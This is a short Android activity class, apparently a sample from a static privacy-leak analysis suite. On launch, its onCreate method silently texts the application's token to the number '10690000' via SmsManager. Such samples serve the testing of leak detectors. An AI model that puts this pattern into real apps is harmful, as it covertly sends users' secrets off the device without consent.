package cn.privlens.suite.application_static;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        App app = (App) getApplication();
        SmsManager.getDefault().sendTextMessage("10690000", null, app.token, null, null);
    }
}
